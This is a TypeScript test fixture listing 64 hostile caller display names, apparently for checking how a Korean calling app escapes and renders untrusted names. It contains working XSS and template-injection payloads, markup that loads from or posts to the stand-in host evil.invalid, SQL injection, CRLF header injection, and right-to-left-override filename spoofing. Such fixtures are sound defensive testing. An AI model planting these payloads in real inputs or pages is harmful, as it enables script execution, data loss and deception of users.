const RLO = '\u202E';
const LRO = '\u202D';
const PDF = '\u202C';
const ISOLATE = '\u2066';
const BOM = '\uFEFF';
const NUL = '\u0000';
const ESCAPE = '\u001B';
const FILLER = '\u3164';

const quoted = (name: string): string => `"${name}"`;

/** Display names as they would stand in a From header, the quotes included. 64 of them. */
export const HOSTILE_NAMES: readonly string[] = [
  // Markup and script, in every place a template could put a name.
  '<script>window.pwned=1;alert(1)</script>',
  '<img src=x onerror=window.pwned=1>',
  '<svg onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>고객</a>',
  '<b>굵은 이름</b>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--',
  '-->',
  ']]>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<meta http-equiv=refresh content=0;url=javascript:alert(1)>',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<base href=//evil.invalid/>',
  '<form action=//evil.invalid><button>받기</button></form>',
  '<object data=//evil.invalid/x>',
  '<details open ontoggle=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;script&#x3E;alert(1)',
  // Template syntaxes.
  '{{constructor.constructor(`alert(1)`)()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{0} {name} {{name}} @:words.answer',
  '%s %d %n %x',
  '__proto__',
  'constructor',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  // Quotes and escapes of the header itself.
  String.raw`\" onmouseover=\"alert(1)`,
  String.raw`\\\\`,
  "' OR 1=1; DROP TABLE calls; --",
  "Robert'); DROP TABLE call_events;--",
  '%00%0d%0aVia: evil',
  // Direction, zero width, blanks.
  `${RLO}gnp.exe${PDF}`,
  `${LRO}1588-0000${PDF}`,
  `${ISOLATE}은행${RLO}`,
  `김${'\u200B'}철${'\u200B'}수`,
  `${BOM}이름`,
  `${FILLER}${FILLER}`,
  '\u00A0\u2003\u3000',
  '\u2028두 줄\u2029',
  '\u{E0041}\u{E0042}태그',
  `a${'\u0301'.repeat(500)}`,
  'Z̴̢͙̆a̵͉͝l̵̝͌g̸̱͒o̵̙͘',
  // Control characters, as far as a frame can carry them.
  `종${'\u0007'}소리`,
  `${ESCAPE}[31m빨강${ESCAPE}[0m`,
  `끝${NUL}뒤`,
  '탭\t탭',
  '삭제\u007F\u0008\u0008',
  // Look-alikes of the app's own words.
  '통화 종료 버튼을 누르세요',
  'admin',
  '받기',
  // Length.
  '긴'.repeat(129),
  'x'.repeat(1_000),
  '가나다라'.repeat(5_000),
  'A'.repeat(60_000),
  'B'.repeat(1_000_000),
  '👨‍👩‍👧‍👦'.repeat(100),
  // Spreadsheet.
  '=HYPERLINK(0)',
  '@SUM(1)',
].map(quoted);
